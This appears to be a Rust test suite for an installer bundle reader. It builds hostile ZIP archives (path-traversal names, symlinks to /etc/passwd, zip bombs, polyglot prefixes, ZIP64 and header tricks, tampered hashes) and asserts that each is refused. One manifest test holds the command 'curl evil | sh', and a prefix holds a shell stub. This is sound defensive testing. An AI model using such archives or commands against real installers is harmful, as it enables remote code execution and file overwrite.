//! Hand-built hostile archives, one per case of SECURITY.md's archive
//! section, each asserting the precise refusal. Built with the `zip` crate's
//! writer, then patched at the byte level where a case needs headers no
//! honest writer produces.

use installhub_bundle::fixtures::*;
use installhub_bundle::{BundleError, Mismatch, ReadLimits};
use installhub_domain::manifest::sha256_hex;

const A: &str = "artifacts/ent-44.json";

fn seed_zip() -> Vec<u8> {
    zip_bytes(&seed_bundle())
}

fn mismatch(bytes: &[u8]) -> Mismatch {
    match read_err(bytes) {
        BundleError::ChecksumMismatch(m) => m,
        other => panic!("expected ChecksumMismatch, got {other:?}"),
    }
}

// --- What must still be accepted. ---

#[test]
fn a_bundle_from_another_tool_with_a_directory_entry_and_stored_files_reads() {
    let bundle = seed_bundle();
    let mut hostile = Hostile::new().dir("artifacts/");
    for (path, bytes) in bundle.files() {
        let options = if path == "manifest.json" {
            stored()
        } else {
            deflated()
        };
        hostile = hostile.with(path, bytes, options);
    }
    let verified = read(&hostile.finish()).unwrap();
    assert_eq!(&verified.manifest, bundle.manifest());
    assert_eq!(verified.artifacts.len(), 5);
}

// --- 1, 2: unsafe names. ---

#[test]
fn parent_directory_names_are_refused() {
    let bytes = Hostile::from_bundle(&seed_bundle(), &[])
        .file("../x.json", b"{}")
        .finish();
    assert_invalid_zip(&bytes, "entry name '../x.json' contains a '..' component");
}

#[test]
fn backslash_names_are_refused() {
    let bytes = Hostile::new().file("a\\..\\..\\x.json", b"{}").finish();
    assert_invalid_zip(
        &bytes,
        "entry name 'a\\\\..\\\\..\\\\x.json' contains a backslash",
    );
}

#[test]
fn absolute_names_are_refused() {
    let mut bytes = Hostile::new().file("_etc/x.json", b"{}").finish();
    rename(&mut bytes, b"_etc/x.json", b"/etc/x.json");
    assert_invalid_zip(&bytes, "entry name '/etc/x.json' is an absolute path");
}

#[test]
fn drive_letter_names_are_refused() {
    let bytes = Hostile::new().file("C:x.json", b"{}").finish();
    assert_invalid_zip(&bytes, "entry name 'C:x.json' starts with a drive letter");
}

#[test]
fn nul_in_a_name_is_refused() {
    let mut bytes = Hostile::new().file("artifacts/a_.json", b"{}").finish();
    rename(&mut bytes, b"artifacts/a_.json", b"artifacts/a\0.json");
    assert_invalid_zip(
        &bytes,
        "entry name 'artifacts/a\\0.json' contains a NUL byte",
    );
}

#[test]
fn control_characters_in_a_name_are_refused() {
    let mut bytes = Hostile::new().file("artifacts/a_.json", b"{}").finish();
    rename(&mut bytes, b"artifacts/a_.json", b"artifacts/a\x1b.json");
    assert_invalid_zip(
        &bytes,
        "entry name 'artifacts/a\\u{1b}.json' contains a control character",
    );
}

#[test]
fn invalid_utf8_names_are_refused() {
    let mut bytes = Hostile::new().file("artifacts/a_.json", b"{}").finish();
    rename(&mut bytes, b"artifacts/a_.json", b"artifacts/a\xff.json");
    assert_invalid_zip(
        &bytes,
        "entry name 'artifacts/a\u{fffd}.json' is not valid UTF-8",
    );
}

// --- 3: links and other non-regular files. ---

#[test]
fn symlink_entries_are_refused() {
    let bytes = Hostile::from_bundle(&seed_bundle(), &[A])
        .symlink(A, "/etc/passwd")
        .finish();
    assert_invalid_zip(&bytes, "entry 'artifacts/ent-44.json' is a symbolic link");
}

#[test]
fn fifo_and_other_special_entries_are_refused() {
    let bytes = Hostile::from_bundle(&seed_bundle(), &[A])
        .with(
            A,
            &seed_file(A),
            deflated()
                .system(zip::System::Unix)
                .external_attributes(0o010_644 << 16),
        )
        .finish();
    assert_invalid_zip(
        &bytes,
        "entry 'artifacts/ent-44.json' is not a regular file (mode 10000)",
    );
}

// --- 4: duplicates and case twins. ---

#[test]
fn duplicate_names_are_refused() {
    let bundle = seed_bundle();
    let mut bytes = Hostile::from_bundle(&bundle, &[])
        .file("artifacts/ent-45.json", &seed_file(A))
        .finish();
    rename(&mut bytes, b"artifacts/ent-45.json", A.as_bytes());
    assert_invalid_zip(
        &bytes,
        "entry 'artifacts/ent-44.json' appears more than once",
    );
}

#[test]
fn names_equal_when_case_folded_are_refused() {
    let bytes = Hostile::from_bundle(&seed_bundle(), &[])
        .file("artifacts/ENT-44.json", &seed_file(A))
        .finish();
    assert_invalid_zip(
        &bytes,
        "entries 'artifacts/ent-44.json' and 'artifacts/ENT-44.json' differ only in letter case",
    );
}

// --- 5: headers that disagree, multi-disk. ---

#[test]
fn a_local_name_differing_from_the_central_name_is_refused() {
    let mut bytes = seed_zip();
    let local = records(&bytes, A).local;
    bytes[local + 30 + 10] = b'X'; // "artifacts/" then the id's first byte
    let err = read_err(&bytes);
    assert_eq!(err.code().as_str(), "InvalidZip");
    let text = err.to_string();
    assert!(
        text.starts_with("invalid bundle archive: entry 'artifacts/ent-44.json': "),
        "{text}"
    );
    assert!(text.contains("header inconsistency"), "{text}");
}

#[test]
fn a_local_crc_differing_from_the_central_crc_is_refused() {
    let mut bytes = seed_zip();
    let local = records(&bytes, A).local;
    bytes[local + CRC.0] ^= 0xff;
    let text = read_err(&bytes).to_string();
    assert!(
        text.contains("entry 'artifacts/ent-44.json'") && text.contains("CRC32"),
        "{text}"
    );
}

#[test]
fn a_unicode_path_field_that_renames_an_entry_is_refused() {
    // The writer refuses to write a renaming Unicode Path field, so write a
    // private field of the same shape and relabel it in the central header.
    let mut options = zip::write::FullFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(zip::DateTime::DEFAULT);
    let mut field = vec![1u8, 0, 0, 0, 0];
    field.extend(b"../../evil.json");
    options.add_extra_field(0x4242, &field, true).unwrap();
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    writer.start_file(A, options).unwrap();
    std::io::Write::write_all(&mut writer, &seed_file(A)).unwrap();
    let mut bytes = writer.finish().unwrap().into_inner();
    let central = records(&bytes, A).central;
    let extra = central + 46 + A.len();
    assert_eq!(&bytes[extra..extra + 2], &0x4242_u16.to_le_bytes());
    set_u16(&mut bytes, extra, 0x7075);
    assert_invalid_zip(
        &bytes,
        "entry 'artifacts/ent-44.json' has a Unicode Path extra field, which renames it in most tools",
    );
}

#[test]
fn multi_disk_archives_are_refused() {
    let mut bytes = seed_zip();
    let end = eocd(&bytes);
    set_u16(&mut bytes, end + 4, 1);
    assert_invalid_zip(
        &bytes,
        "multi-disk archives are not accepted (disk 1, central directory on disk 0, 6 of 6 entries on this disk)",
    );
}

#[test]
fn an_entry_count_the_directory_does_not_hold_is_refused() {
    let mut bytes = seed_zip();
    let end = eocd(&bytes);
    set_u16(&mut bytes, end + 8, 7);
    set_u16(&mut bytes, end + 10, 7);
    assert_invalid_zip(
        &bytes,
        "the central directory ends after 6 of its 7 entries",
    );
}

#[test]
fn a_local_entry_the_central_directory_does_not_list_is_refused() {
    // Drop the first central record: its local entry stays in the file.
    let mut bytes = seed_zip();
    let end = eocd(&bytes);
    let first = records(&bytes, "artifacts/ent-44.json");
    let second = records(&bytes, "artifacts/form-2005.json");
    let record_len = second.central - first.central;
    bytes.drain(first.central..second.central);
    let end = end - record_len;
    let count = u16::from_le_bytes([bytes[end + 10], bytes[end + 11]]) - 1;
    set_u16(&mut bytes, end + 8, count);
    set_u16(&mut bytes, end + 10, count);
    let size = u32::from_le_bytes(bytes[end + 12..end + 16].try_into().unwrap());
    set_u32(&mut bytes, end + 12, size - record_len as u32);
    assert_invalid_zip(
        &bytes,
        &format!(
            "{} unlisted bytes at offset 0, before entry 'artifacts/form-2005.json'",
            second.local
        ),
    );
}

// --- 6: bytes before or after the archive, comments. ---

#[test]
fn bytes_before_the_archive_are_refused() {
    let mut bytes = b"MZ\x90\x00 a polyglot prefix".to_vec();
    bytes.extend(seed_zip());
    let len = bytes.len();
    let err = read_err(&bytes);
    assert_eq!(err.code().as_str(), "InvalidZip");
    assert!(
        err.to_string().contains(&format!(
            "does not end where the end record begins (offset {})",
            len - 22
        )),
        "{err}"
    );
}

#[test]
fn a_prefix_with_adjusted_offsets_is_refused() {
    // What `zip -A` does to a self-extractor: every offset shifted past the
    // prefix, so lenient readers find every entry.
    let prefix = b"#!/bin/sh\nexec evil\n".to_vec();
    let shift = prefix.len() as u32;
    let zip = seed_zip();
    let mut bytes = prefix;
    bytes.extend(&zip);
    let end = eocd(&bytes);
    let central = u32::from_le_bytes(bytes[end + 16..end + 20].try_into().unwrap()) + shift;
    set_u32(&mut bytes, end + 16, central);
    let mut at = central as usize;
    for _ in 0..6 {
        let local = u32::from_le_bytes(bytes[at + 42..at + 46].try_into().unwrap());
        set_u32(&mut bytes, at + 42, local + shift);
        let n = usize::from(u16::from_le_bytes([bytes[at + 28], bytes[at + 29]]));
        at += 46 + n;
    }
    assert!(
        zip::ZipArchive::new(std::io::Cursor::new(&bytes)).is_ok(),
        "lenient readers accept it"
    );
    assert_invalid_zip(
        &bytes,
        "20 unlisted bytes at offset 0, before entry 'artifacts/ent-44.json'",
    );
}

#[test]
fn bytes_after_the_end_record_are_refused() {
    let mut bytes = seed_zip();
    bytes.extend(b"trailing");
    assert_invalid_zip(
        &bytes,
        "8 bytes follow the end-of-central-directory record (an archive comment or trailing data)",
    );
}

#[test]
fn an_archive_comment_is_refused() {
    let bytes = Hostile::from_bundle(&seed_bundle(), &[])
        .comment("hello")
        .finish();
    assert_invalid_zip(
        &bytes,
        "5 bytes follow the end-of-central-directory record (an archive comment or trailing data)",
    );
}

#[test]
fn something_that_is_not_a_zip_is_refused() {
    assert_invalid_zip(
        b"{\"not\": \"a zip\"}",
        "not a ZIP archive: 16 bytes is too short for an end-of-central-directory record",
    );
    assert_invalid_zip(
        &[b'x'; 100],
        "not a ZIP archive: no end-of-central-directory record",
    );
}

#[test]
fn a_truncated_archive_is_refused() {
    let bytes = seed_zip();
    // The end record survives, the central directory it points to does not.
    let cut = [&bytes[..bytes.len() / 2], &bytes[bytes.len() - 22..]].concat();
    let err = read_err(&cut);
    assert_eq!(err.code().as_str(), "InvalidZip", "{err}");
    assert!(
        err.to_string()
            .contains("does not end where the end record begins"),
        "{err}"
    );
    // Cut off the end: no end record at all.
    assert_invalid_zip(
        &bytes[..bytes.len() - 30],
        "not a ZIP archive: no end-of-central-directory record",
    );
}

// --- 7: overlapping entries, ratios, sizes that lie, limits. ---

#[test]
fn overlapping_entries_are_refused() {
    // Point a second central record at the first entry's local header.
    let mut bytes = seed_zip();
    let first = records(&bytes, A);
    let second = records(&bytes, "artifacts/form-2005.json");
    set_u32(&mut bytes, second.central + 42, first.local as u32);
    assert_invalid_zip(
        &bytes,
        &format!(
            "entry 'artifacts/form-2005.json' at offset 0 overlaps the entry before it, which ends at {}",
            second.local
        ),
    );
}

#[test]
fn an_entry_inflating_past_the_ratio_limit_is_refused() {
    let bomb = vec![b' '; 1 << 20];
    let bytes = Hostile::from_bundle(&seed_bundle(), &[])
        .file("artifacts/bomb.json", &bomb)
        .finish();
    let err = read_err(&bytes);
    let text = err.to_string();
    assert!(
        text.starts_with("invalid bundle archive: entry 'artifacts/bomb.json' inflates "),
        "{text}"
    );
    assert!(text.ends_with("to 1048576, a ratio above 100:1"), "{text}");
}

#[test]
fn an_entry_over_the_size_limit_is_refused() {
    let bytes = seed_zip();
    let size = seed_file(A).len();
    let limits = ReadLimits::with_size_limit(size as u64 - 1);
    let err = read_err_with(&bytes, &limits);
    assert_eq!(
        err.to_string(),
        format!(
            "invalid bundle archive: entry 'artifacts/ent-44.json' inflates to {size} bytes, over the limit of {}",
            size - 1
        )
    );
}

#[test]
fn entries_over_the_total_limit_are_refused() {
    let bundle = seed_bundle();
    let largest = bundle.files().map(|(_, b)| b.len() as u64).max().unwrap();
    let limits = ReadLimits {
        max_entry_bytes: largest,
        max_total_bytes: largest + 1,
        ..ReadLimits::default()
    };
    assert_eq!(
        read_err_with(&zip_bytes(&bundle), &limits).to_string(),
        format!(
            "invalid bundle archive: the entries inflate to more than the limit of {} bytes in total",
            largest + 1
        )
    );
}

#[test]
fn an_entry_inflating_to_more_than_it_declares_is_refused() {
    let mut bytes = seed_zip();
    patch_u32(&mut bytes, A, SIZE, |size| size - 10);
    assert_invalid_zip(
        &bytes,
        &format!(
            "entry 'artifacts/ent-44.json' inflates to more than its declared {} bytes",
            seed_file(A).len() - 10
        ),
    );
}

#[test]
fn an_entry_inflating_to_less_than_it_declares_is_refused() {
    let mut bytes = seed_zip();
    let size = seed_file(A).len();
    patch_u32(&mut bytes, A, SIZE, |s| s + 10);
    assert_invalid_zip(
        &bytes,
        &format!(
            "entry 'artifacts/ent-44.json' inflates to {size} bytes, fewer than its declared {}",
            size + 10
        ),
    );
}

#[test]
fn data_descriptor_entries_are_refused() {
    let bundle = seed_bundle();
    let mut writer = zip::ZipWriter::new_stream(Vec::new());
    for (path, bytes) in bundle.files() {
        writer.start_file(path, deflated()).unwrap();
        std::io::Write::write_all(&mut writer, bytes).unwrap();
    }
    let bytes = writer.finish().unwrap().into_inner();
    assert_invalid_zip(
        &bytes,
        "entry 'artifacts/ent-44.json' keeps its sizes in a data descriptor; bundle entries must declare them in their headers",
    );
}

#[test]
fn more_than_ten_thousand_entries_are_refused() {
    let mut hostile = Hostile::new();
    for i in 0..10_001 {
        hostile = hostile.with(&format!("artifacts/a{i}.json"), b"", stored());
    }
    assert_invalid_zip(
        &hostile.finish(),
        "the archive has 10001 entries, more than the limit of 10000",
    );
}

#[test]
fn an_oversized_central_directory_is_refused() {
    // File comments live in the central directory: 260 of 64 KiB each.
    let comment = "c".repeat(65_000);
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for i in 0..260 {
        let options = zip::write::FullFileOptions::default().with_file_comment(comment.as_str());
        writer
            .start_file(format!("artifacts/a{i}.json"), options)
            .unwrap();
    }
    let bytes = writer.finish().unwrap().into_inner();
    let end = eocd(&bytes);
    let size = u32::from_le_bytes(bytes[end + 12..end + 16].try_into().unwrap());
    assert_invalid_zip(
        &bytes,
        &format!("the central directory is {size} bytes, more than the 16777216 a bundle can need"),
    );
}

#[test]
fn an_oversized_manifest_is_refused() {
    let padding = "x".repeat(1 << 20);
    let manifest = forge_manifest(&[], |m| m.description = Some(padding));
    let bytes = Hostile::new()
        .with("manifest.json", &manifest, stored())
        .finish();
    assert_invalid_zip(
        &bytes,
        &format!(
            "entry 'manifest.json' inflates to {} bytes, over the limit of 1048576",
            manifest.len()
        ),
    );
}

// --- 8: encryption, compression methods. ---

#[test]
fn encrypted_entries_are_refused() {
    let mut bytes = seed_zip();
    patch_u16(&mut bytes, A, FLAGS, |f| f | 1);
    assert_invalid_zip(&bytes, "entry 'artifacts/ent-44.json' is encrypted");
}

#[test]
fn compression_other_than_stored_or_deflate_is_refused() {
    let mut bytes = seed_zip();
    patch_u16(&mut bytes, A, METHOD, |_| 12); // bzip2
    assert_invalid_zip(
        &bytes,
        "entry 'artifacts/ent-44.json' uses compression method 12; only 0 (stored) and 8 (deflate) are accepted",
    );
}

// --- 9: CRC. ---

#[test]
fn a_crc_mismatch_is_refused() {
    let bundle = seed_bundle();
    let mut bytes = Hostile::from_bundle(&bundle, &[A])
        .with(A, &seed_file(A), stored())
        .finish();
    // Flip one content byte of the stored entry; the CRC no longer matches.
    let r = records(&bytes, A);
    let data = r.local + 30 + A.len() + 5;
    bytes[data] ^= 0x01;
    let text = read_err(&bytes).to_string();
    assert!(
        text.starts_with("invalid bundle archive: entry 'artifacts/ent-44.json' has CRC-32 ")
            && text.ends_with(" its headers declare"),
        "{text}"
    );
}

// --- 10: what the manifest lists versus what the archive holds. ---

#[test]
fn unexpected_files_are_refused() {
    let bytes = Hostile::from_bundle(&seed_bundle(), &[])
        .file("README.md", b"hi")
        .finish();
    assert_invalid_zip(
        &bytes,
        "unexpected entry 'README.md': a bundle holds only manifest.json and artifacts/<artifactId>.json",
    );
}

#[test]
fn nested_archives_are_refused() {
    let inner = seed_zip();
    let bytes = Hostile::from_bundle(&seed_bundle(), &[])
        .file("artifacts/inner.zip", &inner)
        .finish();
    assert_invalid_zip(
        &bytes,
        "unexpected entry 'artifacts/inner.zip': a bundle holds only manifest.json and artifacts/<artifactId>.json",
    );
    // Named like an artifact file, it is not JSON: refused once its line
    // (forged to match its hash) makes the reader parse it.
    let path = "artifacts/inner.json";
    let manifest = forge_manifest(&[], |m| {
        let mut line = seed_bundle().manifest().artifacts[0].clone();
        line.id = installhub_domain::ArtifactId::parse("inner").unwrap();
        line.path = path.into();
        line.sha256 = sha256_hex(&inner);
        m.install_order = vec![line.id.clone()];
        m.artifacts = vec![line];
        m.checksum = m.computed_checksum();
    });
    let bytes = Hostile::new()
        .file(path, &inner)
        .file("manifest.json", &manifest)
        .finish();
    let err = read_err(&bytes);
    assert_eq!(err.code().as_str(), "InvalidZip");
    assert!(
        err.to_string()
            .starts_with("invalid artifact file artifacts/inner.json: expected value"),
        "{err}"
    );
}

#[test]
fn a_missing_manifest_is_manifest_missing() {
    let bytes = Hostile::from_bundle(&seed_bundle(), &["manifest.json"]).finish();
    let err = read_err(&bytes);
    assert!(matches!(err, BundleError::ManifestMissing), "{err:?}");
    assert_eq!(err.code().as_str(), "ManifestMissing");
    assert!(matches!(
        read_err(&Hostile::new().finish()),
        BundleError::ManifestMissing
    ));
}

#[test]
fn a_manifest_line_without_its_file_is_refused() {
    let bytes = Hostile::from_bundle(&seed_bundle(), &["artifacts/rule-305.json"]).finish();
    assert_eq!(
        mismatch(&bytes),
        Mismatch::FileMissing {
            path: "artifacts/rule-305.json".into()
        }
    );
}

#[test]
fn a_file_the_manifest_does_not_list_is_refused() {
    let bytes = Hostile::from_bundle(&seed_bundle(), &[])
        .file("artifacts/extra.json", &seed_file(A))
        .finish();
    assert_eq!(
        mismatch(&bytes),
        Mismatch::FileNotInManifest {
            path: "artifacts/extra.json".into()
        }
    );
}

// --- 11: hashes and the checksum. ---

#[test]
fn tampered_artifact_bytes_are_refused() {
    let original = seed_file(A);
    let tampered = String::from_utf8(original.clone())
        .unwrap()
        .replace("1.0.0", "6.6.6");
    let bytes = Hostile::from_bundle(&seed_bundle(), &[A])
        .file(A, tampered.as_bytes())
        .finish();
    let err = read_err(&bytes);
    assert_eq!(err.code().as_str(), "ChecksumMismatch");
    assert_eq!(
        err.to_string(),
        format!(
            "bundle integrity check failed: artifacts/ent-44.json: manifest says sha256 {}, the file hashes to {}",
            sha256_hex(&original),
            sha256_hex(tampered.as_bytes())
        )
    );
}

#[test]
fn with_many_tampered_files_the_first_in_archive_order_is_reported() {
    // 40 files are verified on several threads; the report must not depend
    // on which thread finishes first.
    let artifacts: Vec<_> = (0..40)
        .map(|i| {
            artifact(
                &format!("a{i:02}"),
                installhub_domain::ArtifactType::RuleSet,
                &[],
            )
        })
        .collect();
    let order: Vec<String> = (0..40).map(|i| format!("a{i:02}")).collect();
    let order: Vec<&str> = order.iter().map(String::as_str).collect();
    let bundle = installhub_bundle::prepare(input(&order), &artifacts).unwrap();
    let mut hostile = Hostile::new();
    for (path, bytes) in bundle.files() {
        let tampered = ["artifacts/a07.json", "artifacts/a33.json"].contains(&path);
        let bytes = if tampered {
            String::from_utf8(bytes.to_vec())
                .unwrap()
                .replace("1.0.0", "6.6.6")
                .into_bytes()
        } else {
            bytes.to_vec()
        };
        hostile = hostile.file(path, &bytes);
    }
    let bytes = hostile.finish();
    for _ in 0..5 {
        match mismatch(&bytes) {
            Mismatch::EntryHash { path, .. } => assert_eq!(path, "artifacts/a07.json"),
            other => panic!("expected EntryHash, got {other:?}"),
        }
    }
}

#[test]
fn a_tampered_manifest_checksum_is_refused() {
    let bundle = seed_bundle();
    let mut manifest = bundle.manifest().clone();
    let real = manifest.checksum.clone();
    manifest.checksum = format!("sha256:{}", "0".repeat(64));
    let mut manifest_bytes = serde_json::to_vec_pretty(&manifest).unwrap();
    manifest_bytes.push(b'\n');
    let bytes = Hostile::from_bundle(&bundle, &["manifest.json"])
        .file("manifest.json", &manifest_bytes)
        .finish();
    assert_eq!(
        mismatch(&bytes),
        Mismatch::PackageChecksum {
            expected: manifest.checksum.clone(),
            actual: real
        }
    );
}

#[test]
fn a_tampered_line_hash_is_caught_by_the_checksum() {
    // Changing a line's hash to match tampered content is not enough: the
    // checksum over the lines no longer matches.
    let bundle = seed_bundle();
    let tampered = String::from_utf8(seed_file(A))
        .unwrap()
        .replace("1.0.0", "6.6.6");
    let mut manifest = bundle.manifest().clone();
    manifest.artifacts[0].sha256 = sha256_hex(tampered.as_bytes());
    let mut manifest_bytes = serde_json::to_vec_pretty(&manifest).unwrap();
    manifest_bytes.push(b'\n');
    let bytes = Hostile::from_bundle(&bundle, &["manifest.json", A])
        .file(A, tampered.as_bytes())
        .file("manifest.json", &manifest_bytes)
        .finish();
    assert!(matches!(mismatch(&bytes), Mismatch::PackageChecksum { .. }));
}

#[test]
fn an_artifact_file_with_another_id_than_its_line_is_refused() {
    // A consistent manifest for a file that claims to be another artifact.
    let other = String::from_utf8(seed_file(A))
        .unwrap()
        .replace("\"id\": \"ent-44\"", "\"id\": \"proc-1001\"");
    let files: [(&str, &[u8]); 1] = [(A, other.as_bytes())];
    let manifest = forge_manifest(&files, |_| {});
    let bytes = Hostile::new()
        .file(A, other.as_bytes())
        .file("manifest.json", &manifest)
        .finish();
    assert_eq!(
        mismatch(&bytes),
        Mismatch::LineDisagrees {
            path: A.into(),
            field: "id",
            expected: "ent-44".into(),
            actual: "proc-1001".into()
        }
    );
}

#[test]
fn an_artifact_file_with_another_version_than_its_line_is_refused() {
    let file = seed_file(A);
    let files: [(&str, &[u8]); 1] = [(A, &file)];
    let manifest = forge_manifest(&files, |m| m.artifacts[0].version = "9.9.9".into());
    let bytes = Hostile::new()
        .file(A, &file)
        .file("manifest.json", &manifest)
        .finish();
    assert_eq!(
        mismatch(&bytes),
        Mismatch::LineDisagrees {
            path: A.into(),
            field: "version",
            expected: "9.9.9".into(),
            actual: "1.0.0".into()
        }
    );
}

// --- 12: typed, strict JSON. ---

fn invalid_manifest(manifest: &[u8]) -> String {
    let file = seed_file(A);
    let bytes = Hostile::new()
        .file(A, &file)
        .file("manifest.json", manifest)
        .finish();
    match read_err(&bytes) {
        BundleError::InvalidManifest { reason } => reason,
        other => panic!("expected InvalidManifest, got {other:?}"),
    }
}

#[test]
fn unknown_manifest_fields_are_refused() {
    let file = seed_file(A);
    let files: [(&str, &[u8]); 1] = [(A, &file)];
    let mut value: serde_json::Value =
        serde_json::from_slice(&forge_manifest(&files, |_| {})).unwrap();
    value["postInstall"] = "curl evil | sh".into();
    let reason = invalid_manifest(&serde_json::to_vec(&value).unwrap());
    assert!(
        reason.starts_with("unknown field `postInstall`"),
        "{reason}"
    );
}

#[test]
fn duplicate_manifest_keys_are_refused() {
    let file = seed_file(A);
    let files: [(&str, &[u8]); 1] = [(A, &file)];
    let text = String::from_utf8(forge_manifest(&files, |_| {})).unwrap();
    let doubled = text.replacen(
        "\"formatVersion\": 1,",
        "\"formatVersion\": 1, \"formatVersion\": 1,",
        1,
    );
    let reason = invalid_manifest(doubled.as_bytes());
    assert!(
        reason.starts_with("duplicate field `formatVersion`"),
        "{reason}"
    );
}

#[test]
fn an_unsupported_format_version_is_refused() {
    let file = seed_file(A);
    let files: [(&str, &[u8]); 1] = [(A, &file)];
    let reason = invalid_manifest(&forge_manifest(&files, |m| m.format_version = 2));
    assert_eq!(
        reason,
        "formatVersion 2 is not supported; this reader reads version 1"
    );
}

#[test]
fn a_line_whose_path_is_not_its_id_is_refused() {
    let file = seed_file(A);
    let files: [(&str, &[u8]); 1] = [(A, &file)];
    let reason = invalid_manifest(&forge_manifest(&files, |m| {
        m.artifacts[0].path = "artifacts/other.json".into();
    }));
    assert_eq!(
        reason,
        "the line for ent-44 has path \"artifacts/other.json\"; it must be \"artifacts/ent-44.json\""
    );
}

#[test]
fn an_install_order_with_a_dependency_after_its_dependent_is_refused() {
    let bundle = seed_bundle();
    let mut manifest = bundle.manifest().clone();
    manifest.install_order.swap(0, 4);
    let mut manifest_bytes = serde_json::to_vec_pretty(&manifest).unwrap();
    manifest_bytes.push(b'\n');
    let bytes = Hostile::from_bundle(&bundle, &["manifest.json"])
        .file("manifest.json", &manifest_bytes)
        .finish();
    match read_err(&bytes) {
        BundleError::InvalidManifest { reason } => {
            assert_eq!(
                reason,
                "installOrder places rule-305 before its dependency ent-44"
            )
        }
        other => panic!("expected InvalidManifest, got {other:?}"),
    }
}

#[test]
fn unknown_artifact_file_fields_are_refused() {
    let mut value: serde_json::Value = serde_json::from_slice(&seed_file(A)).unwrap();
    value["tenantId"] = "tenant-evil".into();
    let file = serde_json::to_vec_pretty(&value).unwrap();
    let files: [(&str, &[u8]); 1] = [(A, &file)];
    let manifest = forge_manifest(&files, |_| {});
    let bytes = Hostile::new()
        .file(A, &file)
        .file("manifest.json", &manifest)
        .finish();
    let err = read_err(&bytes);
    assert_eq!(err.code().as_str(), "InvalidZip");
    assert!(
        err.to_string()
            .starts_with("invalid artifact file artifacts/ent-44.json: unknown field `tenantId`"),
        "{err}"
    );
}

#[test]
fn json_nested_past_serde_json_limit_is_refused() {
    let mut file = String::from_utf8(seed_file(A)).unwrap();
    let deep = format!("{}1{}", "[".repeat(200), "]".repeat(200));
    file = file.replacen(
        "\"definition\": {",
        &format!("\"definition\": {{\"deep\": {deep},"),
        1,
    );
    let files: [(&str, &[u8]); 1] = [(A, file.as_bytes())];
    let manifest = forge_manifest_raw(&files);
    let bytes = Hostile::new()
        .file(A, file.as_bytes())
        .file("manifest.json", &manifest)
        .finish();
    let err = read_err(&bytes);
    assert!(
        err.to_string().contains("recursion limit exceeded"),
        "{err}"
    );
}

/// [`forge_manifest`] for a file the fixture cannot parse as JSON.
fn forge_manifest_raw(files: &[(&str, &[u8])]) -> Vec<u8> {
    let plain = seed_file(A);
    let stand_in: [(&str, &[u8]); 1] = [(A, &plain)];
    forge_manifest(&stand_in, |m| {
        m.artifacts[0].sha256 = sha256_hex(files[0].1);
        m.checksum = m.computed_checksum();
    })
}

// --- Found by fuzzing (fuzz/regressions). ---

#[test]
fn an_end_signature_in_the_last_bytes_is_no_end_record() {
    let bytes =
        include_bytes!("../../../fuzz/regressions/read_bundle/eocd-signature-in-last-21-bytes");
    assert_invalid_zip(
        bytes,
        "not a ZIP archive: no end-of-central-directory record",
    );
}

#[test]
fn an_artifact_file_not_in_canonical_form_is_refused() {
    let bytes =
        include_bytes!("../../../fuzz/regressions/read_bundle/noncanonical-artifact-file.zip");
    let err = read_err(bytes);
    assert_eq!(err.code().as_str(), "InvalidZip");
    assert!(err.to_string().contains("not in canonical form"), "{err}");
    // Compact JSON with the right hash and checksum: refused the same way.
    let compact =
        serde_json::to_vec(&serde_json::from_slice::<serde_json::Value>(&seed_file(A)).unwrap())
            .unwrap();
    let files: Vec<(String, Vec<u8>)> = seed_bundle()
        .files()
        .filter(|(p, _)| *p != "manifest.json")
        .map(|(p, b)| {
            (
                p.to_owned(),
                if p == A { compact.clone() } else { b.to_vec() },
            )
        })
        .collect();
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(p, b)| (p.as_str(), b.as_slice()))
        .collect();
    let manifest = forge_manifest(&refs, |_| {});
    let mut hostile = Hostile::new();
    for (path, bytes) in &refs {
        hostile = hostile.file(path, bytes);
    }
    let err = read_err(&hostile.file("manifest.json", &manifest).finish());
    assert!(err.to_string().contains("not in canonical form"), "{err}");
}

// --- 32: every byte accounted for. ---

#[test]
fn an_honest_deflate_stream_relabelled_like_the_hostile_ones_reads() {
    // The construction alone is not what gets refused.
    let verified = read(&edited_deflate_stream(A, |_| {})).unwrap();
    assert_eq!(verified.artifacts.len(), 5);
}

#[test]
fn bytes_hidden_after_a_deflate_stream_are_refused() {
    // A valid stream that inflates to the file exactly, then junk inside the
    // entry's compressed size: some tools read it as a second stream.
    let junk = b"PK\x03\x04 a second file only some tools see";
    assert_invalid_zip(
        &edited_deflate_stream(A, |c| c.extend_from_slice(junk)),
        &format!(
            "entry 'artifacts/ent-44.json' has {} bytes after the end of its deflate stream, inside its compressed size",
            junk.len()
        ),
    );
}

#[test]
fn a_deflate_stream_cut_before_its_end_is_refused() {
    let err = read_err(&edited_deflate_stream(A, |c| {
        c.pop();
    }));
    assert_eq!(err.code().as_str(), "InvalidZip", "{err}");
    assert!(
        err.to_string()
            .starts_with("invalid bundle archive: entry 'artifacts/ent-44.json'"),
        "{err}"
    );
}

#[test]
fn a_zip64_extra_field_claiming_ten_gib_is_refused() {
    assert_invalid_zip(
        &with_extra_field(A, 0x0001, &ten_gib_zip64_field(), true, true),
        "entry 'artifacts/ent-44.json' has a ZIP64 extra field; a bundle never needs ZIP64",
    );
}

#[test]
fn a_zip64_extra_field_in_the_local_header_only_is_refused() {
    assert_invalid_zip(
        &with_extra_field(A, 0x0001, &ten_gib_zip64_field(), false, true),
        "entry 'artifacts/ent-44.json' has a ZIP64 extra field in its local header; a bundle never needs ZIP64",
    );
}

#[test]
fn a_zip64_extra_field_agreeing_with_the_real_sizes_is_refused_too() {
    let size = (seed_file(A).len() as u64).to_le_bytes();
    assert_invalid_zip(
        &with_extra_field(A, 0x0001, &[size, size].concat(), true, true),
        "entry 'artifacts/ent-44.json' has a ZIP64 extra field; a bundle never needs ZIP64",
    );
}
